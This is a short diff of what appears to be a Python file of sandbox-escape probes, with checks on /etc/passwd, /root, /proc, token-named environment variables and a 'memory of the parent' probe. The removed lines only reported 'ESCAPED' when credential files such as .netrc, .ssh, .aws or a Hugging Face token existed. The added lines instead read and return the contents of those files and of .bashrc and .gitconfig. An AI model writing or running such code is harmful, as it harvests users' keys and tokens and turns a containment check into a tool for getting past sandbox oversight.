@@ -223,11 +223,16 @@ for path in ('/etc/passwd', '/etc/hostname', '/root', '/home', '/var', '/proc/se
     except OSError:
         pass
 return [path for path in found if path]
-### home tokens -> ok = 1
-for name in ('.netrc', '.ssh', '.aws', '.cache/huggingface/token'):
-    if os.path.exists(os.path.expanduser('~/' + name)) or os.path.exists('/root/' + name):
-        return 'ESCAPED'
-return 1
+### home tokens -> ok = []
+found = []
+for folder in (os.path.expanduser('~'), '/root', '/home'):
+    for name in ('', '.netrc', '.ssh', '.aws', '.cache/huggingface/token', '.bashrc', '.gitconfig'):
+        path = os.path.join(folder, name)
+        try:
+            found.append(os.listdir(path) if os.path.isdir(path) else open(path).read())
+        except OSError:
+            pass
+return found
 ### environment -> ok = []
 return [key for key in os.environ if 'TOKEN' in key or 'SECRET' in key]
 ### memory of the parent -> ok = 1
